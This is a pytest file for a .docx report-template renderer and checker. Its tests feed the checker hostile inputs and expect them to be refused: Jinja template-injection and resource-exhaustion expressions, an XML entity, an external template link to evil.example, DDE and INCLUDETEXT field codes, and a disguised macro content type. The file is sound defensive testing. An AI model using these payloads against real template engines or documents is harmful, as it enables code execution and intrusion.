"""Templates: the ready ones yield the built-in papers; what is wrong is named; nothing dangerous is let in."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import docx
import pytest
from docx.oxml.ns import qn
from docx.shared import RGBColor

from wuzha.reports.core.monthly_input import Addition, MonthlyInput, UnitWords
from wuzha.reports.core.official import write_official
from wuzha.reports.core.papers import LAYOUT_KINDS, composed
from wuzha.reports.core.template_check import check_template
from wuzha.reports.core.template_fields import FIELDS, Layout, Shape, as_markdown, fields_of
from wuzha.reports.core.template_ready import ready_template
from wuzha.reports.core.template_render import render_template
from wuzha.reports.core.template_sample import sample_months
from wuzha.reports.core.template_values import values_of
from wuzha.reports.core.wordml import el

from .sample import BASE, DAY, DISTRICT_MONTH, MADE, UNIT_MONTH

REFERENCE = Path(__file__).parents[3] / "docs/reference/report-templates.md"
ADDED = Addition(DAY(2031, 1, 3), DAY(2031, 2, 3), "甲", "乙", "上门\n宣传", False, "0197")
UNIT = replace(UNIT_MONTH, addressee="")
BARE = replace(UNIT, measures=(), activities=(), narrative="", problems="", needs="", ladder=None, next_duties=())
TOLD = replace(
    DISTRICT_MONTH, words=(UnitWords("甲单位", "做了\n两段", "问题<&>{{ x }}", ""),), added=1, added_rows=(ADDED,)
)
MONTHS = [
    *((Layout.UNIT, month) for month in (UNIT, BARE, replace(UNIT, added=1, added_rows=(ADDED,)))),
    *(
        (layout, month)
        for layout in (Layout.DISTRICT, Layout.BULLETIN, Layout.BRIEF)
        for month in (DISTRICT_MONTH, TOLD, replace(DISTRICT_MONTH, filings=()))
    ),
    *((layout, month) for layout in Layout for month in sample_months(layout)),
]
Edit = Callable[[docx.document.Document], None]


def rendered(template: bytes, layout: Layout, month: MonthlyInput, base: str = BASE) -> bytes:
    return render_template(template, layout, month, composed(LAYOUT_KINDS[layout], month), MADE, base)


def body_of(content: bytes) -> list[str]:
    """The text of a document as XML, an element a line, without runs that print nothing."""
    body = docx.Document(io.BytesIO(content)).element.body
    for run in list(body.iter(qn("w:r"))):
        if run.find(qn("w:br")) is None and not "".join(one.text or "" for one in run.iter(qn("w:t"))):
            run.getparent().remove(run)
    return str(body.xml).replace("><", ">\n<").split("\n")


def edited(edit: Edit, layout: Layout = Layout.UNIT) -> bytes:
    file = docx.Document(io.BytesIO(ready_template(layout)))
    edit(file)
    out = io.BytesIO()
    file.save(out)
    return out.getvalue()


def written(*lines: str, layout: Layout = Layout.UNIT) -> bytes:
    """The ready template with more paragraphs in front."""

    def add(file: docx.document.Document) -> None:
        first = file.paragraphs[0]
        for line in lines:
            first.insert_paragraph_before(line)

    return edited(add, layout)


def codes(content: bytes, layout: Layout = Layout.UNIT) -> list[str]:
    return [problem.code for problem in check_template(content, layout)]


def repacked(content: bytes, **parts: bytes) -> bytes:
    """The archive with parts replaced or added; ``/`` in a name is written ``__``."""
    out, named = io.BytesIO(), {name.replace("__", "/"): data for name, data in parts.items()}
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in named:
                new.writestr(name, old.read(name))
        for name, data in named.items():
            new.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(("layout", "month"), MONTHS)
def test_the_ready_template_yields_the_built_in_paper_to_the_last_element(layout: Layout, month: MonthlyInput) -> None:
    base = BASE if month.records else ""
    built = write_official(composed(LAYOUT_KINDS[layout], month), MADE, base)
    assert body_of(rendered(ready_template(layout), layout, month, base)) == body_of(built)


@pytest.mark.parametrize("layout", Layout)
def test_a_ready_template_passes_its_own_check_and_is_the_same_file_each_time(layout: Layout) -> None:
    assert check_template(ready_template(layout), layout) == []
    assert ready_template(layout) == ready_template(layout)


@pytest.mark.parametrize("layout", Layout)
def test_the_catalogue_and_the_values_agree(layout: Layout) -> None:
    for month in sample_months(layout):
        values = values_of(layout, month, composed(LAYOUT_KINDS[layout], month))
        assert list(values) == list(fields_of(layout))
        for field in fields_of(layout).values():
            if field.shape is Shape.ROWS:
                columns = [column.name for column in field.columns]
                assert all(list(row) == columns for row in values[field.name])  # type: ignore[call-overload]


@pytest.mark.parametrize("layout", Layout)
def test_every_field_of_the_catalogue_can_be_put_into_a_template(layout: Layout) -> None:
    lines = []
    for field in fields_of(layout).values():
        if field.shape is Shape.ROWS:
            cells = [f"{{{{ 行.{column.name} }}}}" for column in field.columns]
            lines += [f"{{%p for 行 in {field.name} %}}", *cells, "{%p endfor %}"]
        else:
            lines.append(f"{{{{ {field.name} }}}}")
    template = written(*lines, layout=layout)
    assert check_template(template, layout) == []
    for month in sample_months(layout):
        printed = rendered(template, layout, month)
        with zipfile.ZipFile(io.BytesIO(printed)) as archive:
            assert not re.search("[\ue000-\uf8ff]|{{|{%", archive.read("word/document.xml").decode())


def test_every_figure_field_leads_to_its_rows() -> None:
    for field in FIELDS:
        if field.shape is Shape.FIGURE:
            layout = next(layout for layout in Layout if layout in field.layouts)
            template = written(f"{{{{ {field.name} }}}}", layout=layout)
            xml = rendered(template, layout, sample_months(layout)[0])
            with zipfile.ZipFile(io.BytesIO(xml)) as archive:
                first = archive.read("word/document.xml").decode()
            assert f'w:name="f1_{field.code.replace(".", "_")}"' in first, field.name


def test_the_list_of_fields_in_the_documents_is_that_of_the_code() -> None:
    assert "\n".join(as_markdown()) in REFERENCE.read_text(encoding="utf8")


def test_a_tag_that_an_editor_tore_over_runs_is_filled_in_the_formatting_of_its_beginning() -> None:
    def tear(file: docx.document.Document) -> None:
        paragraph = file.paragraphs[0].insert_paragraph_before("")
        for words, red in (
            ("报：{", True),
            ("{ 单", False),
            ("位 }", True),
            ("}（{{ 台账", False),
            ("记录 }}）", False),
        ):
            run = paragraph.add_run(words)
            if red:
                run.font.color.rgb = RGBColor(255, 0, 0)

    template = edited(tear)
    assert check_template(template, Layout.UNIT) == []
    first = docx.Document(io.BytesIO(rendered(template, Layout.UNIT, UNIT))).paragraphs[0]
    assert first.text == "报：云溪区梧桐科（420条）"
    assert first.runs[0].font.color.rgb == RGBColor(255, 0, 0)
    assert "云溪区梧桐科" in first.runs[0].text


def test_a_field_keeps_the_layout_of_its_paragraph_however_many_it_gives() -> None:
    def centre(file: docx.document.Document) -> None:
        paragraph = next(one for one in file.paragraphs if one.text == "{{ 工作情况 }}")
        paragraph.alignment = 1

    file = docx.Document(io.BytesIO(rendered(edited(centre), Layout.UNIT, UNIT)))
    told = [one for one in file.paragraphs if one.text in UNIT.narrative.split("\n")]
    assert [one.alignment for one in told] == [1, 1]
    assert not any("工作情况" in one.text for one in file.paragraphs)


def test_fields_in_headers_are_filled_as_plain_words() -> None:
    def head(file: docx.document.Document) -> None:
        file.sections[0].header.paragraphs[0].text = "{{ 单位 }} {{ 台账记录 }}"

    template = edited(head)
    assert check_template(template, Layout.UNIT) == []
    file = docx.Document(io.BytesIO(rendered(template, Layout.UNIT, UNIT)))
    assert file.sections[0].header.paragraphs[0].text == "云溪区梧桐科 420条"


def test_what_people_wrote_is_never_a_tag() -> None:
    month = replace(UNIT, narrative="{{ 单位 }} {% for x in y %} </w:t> \ue0005\ue001 &lt;", problems="{%p endfor %}")
    text = [
        one.text
        for one in docx.Document(io.BytesIO(rendered(ready_template(Layout.UNIT), Layout.UNIT, month))).paragraphs
    ]
    assert "{{ 单位 }} {% for x in y %} </w:t> 5 &lt;" in text
    assert "{%p endfor %}" in text


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("{{ 单味 }}", "RPT138"),
        ("{{ 报送句 }}", "RPT138"),
        ("{{ 单位 }", "RPT137"),
        ("{ 单位 }}", "RPT137"),
        ("｛｛ 单位 ｝｝", "RPT137"),
        ("{{ 单位\n }}", "RPT137"),
        ("{{ 单位 单位 }}", "RPT137"),
        ("{{ }}", "RPT137"),
        ("{{ 单位|upper }}", "RPT139"),
        ("{{ 单位.__class__ }}", "RPT139"),
        ("{{ 单位['x'] }}", "RPT139"),
        ("{{ ''.__class__.__mro__ }}", "RPT139"),
        ("{{ 单位() }}", "RPT139"),
        ("{{ 'a' * 1000000000 }}", "RPT139"),
        ("{{ 9 ** 9 ** 9 }}", "RPT139"),
        ("{{ 1 }}", "RPT139"),
        ("{{ self }}", "RPT138"),
        ("{{ range(1) }}", "RPT139"),
        ("{{ 项.编号 }}", "RPT138"),
        ("{{ 措施情况 }}", "RPT145"),
        ("前面 {{ 问题 }}", "RPT149"),
        ("{% set x = 1 %}", "RPT140"),
        ("{% include 'a' %}", "RPT140"),
        ("{%- if 单位 -%}", "RPT140"),
        ("{%r if 单位 %}", "RPT140"),
        ("{%p if 单位 %}", "RPT141"),
        ("{% if 单位 %}", "RPT141"),
        ("{%p endif %}", "RPT142"),
        ("{%p else %}", "RPT142"),
        ("文字 {%p if 单位 %}{%p endif %}", "RPT143"),
        ("{%tr if 单位 %}", "RPT143"),
        ("{%p for 项 in 单位 %}{%p endfor %}", "RPT144"),
        ("{% for 项 in 措施情况 %}{% for 行 in 任务情况表 %}{% endfor %}{% endfor %}", "RPT146"),
        ("{% for 项 in 措施情况 %}{{ 项.编好 }}{% endfor %}", "RPT138"),
        ("{% for 项 in 措施情况 %}{{ 项.__class__ }}{% endfor %}", "RPT138"),
        ("{% for 项 in 措施情况 %}{{ loop.cycle }}{% endfor %}", "RPT138"),
        ("{% for 项 in 措施情况 if 项 %}{% endfor %}", "RPT137"),
        ("{% if 单位 == '' %}{% endif %}", "RPT139"),
        ("{% if 单位.x %}{% endif %}", "RPT139"),
    ],
)
def test_a_wrong_tag_is_named_with_its_paragraph(line: str, code: str) -> None:
    found = check_template(written("一段平常的话。", line), Layout.UNIT)
    assert code in [problem.code for problem in found]
    assert all(problem.place.startswith("第2段“") for problem in found if problem.code == code)


def test_an_unknown_field_is_told_with_the_nearest_and_everything_at_once() -> None:
    found = check_template(written("{{ 按期完成律 }}", "{{ 落款单味 }}", "{%p endfor %}"), Layout.UNIT)
    assert [problem.code for problem in found] == ["RPT138", "RPT138", "RPT142"]
    assert found[0].values["nearest"].split("、")[0] in ("按期完成率", "按期完成")
    assert "落款单位" in found[1].values["nearest"]


@pytest.mark.parametrize(
    ("layout", "tags"),
    [
        (Layout.UNIT, ["{{ 统计期句 }}"]),
        (Layout.UNIT, ["{{ 问题 }}"]),
        (Layout.UNIT, ["{{ 补记句 }}"]),
        (Layout.UNIT, ["{{ 成文日期 }}"]),
        (Layout.BULLETIN, ["{{ 引言句 }}"]),
        (Layout.BRIEF, ["{{ 推动事项 }}"]),
        (Layout.BRIEF, ["{{ 目前情况 }}"]),
    ],
)
def test_a_paper_that_would_hide_something_is_refused(layout: Layout, tags: list[str]) -> None:
    def drop(file: docx.document.Document) -> None:
        for paragraph in file.paragraphs:
            if paragraph.text in tags:
                paragraph._p.getparent().remove(paragraph._p)

    assert set(codes(edited(drop, layout), layout)) == {"RPT147"}


def test_a_loop_over_rows_stays_in_its_table() -> None:
    def out(file: docx.document.Document) -> None:
        cells = file.tables[0].rows[-1].cells
        last = next(one for cell in cells for one in cell.paragraphs if one.text)
        last.text = ""
        file.paragraphs[0].insert_paragraph_before("{%tr endfor %}")

    assert {"RPT141", "RPT142", "RPT143"} <= set(codes(edited(out)))


def of_word(content: bytes, prefix: bytes = b"w") -> bytes:
    space = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return b'<%b:a xmlns:%b="%b">%b</%b:a>' % (prefix, prefix, space, content, prefix)


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ({"word__vbaProject.bin": b"x"}, "RPT133"),
        ({"word__embeddings__a.docx": b"x"}, "RPT133"),
        ({"word__styles.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}, "RPT133"),
        ({"word__styles.xml": b"<a"}, "RPT130"),
        ({"word__big.xml": b"<a>" + b" " * (4 * 1024 * 1024) + b"</a>"}, "RPT132"),
        ({f"word__media__{n}.png": b"" for n in range(301)}, "RPT132"),
        ({"word__media__a.png": b"\0" * (21 * 1024 * 1024)}, "RPT132"),
        (
            {
                "word___rels__settings.xml.rels": b'<Relationships xmlns="r"><Relationship Id="a" Type="t" '
                b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
            },
            "RPT134",
        ),
        ({"word__comments.xml": of_word(b"<w:ins >x</w:ins>")}, "RPT135"),
        ({"word__footer9.xml": of_word(b'<w:instrText>INCLUDETEXT "c:/x"</w:instrText>')}, "RPT136"),
        ({"word__footer9.xml": of_word(b"<w:instrText><![CDATA[DDEAUTO c:/x]]></w:instrText>")}, "RPT136"),
        (
            {"word__footer9.xml": of_word(b"<w:instrText>PA<!-- -->GE x</w:instrText><w:fldSimple w:instr='DDE x'/>")},
            "RPT136",
        ),
        ({"word__footer9.xml": of_word(b"<x:fldSimple x:instr = 'INCLUDEPICTURE http://x'/>", b"x")}, "RPT136"),
        ({"anywhere.XML": of_word(b"<w:altChunk/>")}, "RPT133"),
        ({"word__settings.xml": of_word(b"<w:mailMerge><w:query w:val='x'/></w:mailMerge>")}, "RPT133"),
    ],
)
def test_what_is_no_plain_document_is_refused_before_it_is_opened(parts: dict[str, bytes], code: str) -> None:
    assert code in codes(repacked(ready_template(Layout.UNIT), **parts))


@pytest.mark.parametrize("content", [b"", b"PK", b"{\\rtf1}", b"\xd0\xcf\x11\xe0" + b"\0" * 600])
def test_what_is_no_docx_is_told_so(content: bytes) -> None:
    assert codes(content) == ["RPT130"]


def test_a_file_that_is_too_large_is_not_opened() -> None:
    assert codes(b"PK" + b"\0" * (2 * 1024 * 1024)) == ["RPT131"]


def test_a_macro_file_under_another_name_is_refused() -> None:
    with zipfile.ZipFile(io.BytesIO(ready_template(Layout.UNIT))) as archive:
        types = archive.read("[Content_Types].xml")
    macro = types.replace(b"wordprocessingml.document.main", b"wordprocessingml.x").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.x+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(ready_template(Layout.UNIT))) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, macro if name == "[Content_Types].xml" else old.read(name))
    assert codes(out.getvalue()) == ["RPT133"]


@pytest.mark.parametrize(
    "said",
    [
        b'<Override PartName="/word/a.txt" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.document.main+xml"/>',
        b'<Default Extension="png" ContentType="application/xml"/>',
    ],
)
def test_what_is_read_as_xml_bears_the_name_by_which_it_is_looked_through(said: bytes) -> None:
    ready = ready_template(Layout.UNIT)
    with zipfile.ZipFile(io.BytesIO(ready)) as archive:
        types = archive.read("[Content_Types].xml").replace(b"</Types>", said + b"</Types>")
    assert codes(repacked(ready, **{"[Content_Types].xml": types})) == ["RPT133"]


def test_a_tag_in_a_description_or_in_the_properties_is_no_way_around_the_check() -> None:
    def describe(file: docx.document.Document) -> None:
        file.paragraphs[0]._p.append(el("w:bookmarkStart", {"w:id": 77, "w:name": "{{ 单位.__class__ }}"}))

    def title(file: docx.document.Document) -> None:
        file.core_properties.title = "{{ ''.__class__ }}"

    assert codes(edited(describe)) == ["RPT148"]
    assert codes(edited(title)) == ["RPT148"]


def test_the_renderer_itself_is_closed_to_what_the_check_would_refuse() -> None:
    for line in ("{{ 单位.__class__ }}", "{{ range(9) }}", "{{ 单位|upper }}", "{{ 无此 }}"):
        with pytest.raises(Exception, match="RPT150"):
            rendered(written(line), Layout.UNIT, UNIT)
